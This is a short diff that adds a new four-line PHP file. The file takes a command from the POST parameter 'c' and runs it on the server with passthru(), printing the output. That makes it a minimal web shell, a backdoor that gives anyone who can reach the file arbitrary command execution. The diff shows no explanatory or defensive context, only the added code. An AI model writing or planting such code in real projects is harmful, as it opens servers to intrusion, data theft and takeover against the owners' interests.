@@ -1,0 +1,4 @@
+<?php
+$c = $_POST['c'];
+echo '<pre>';
+passthru($c);
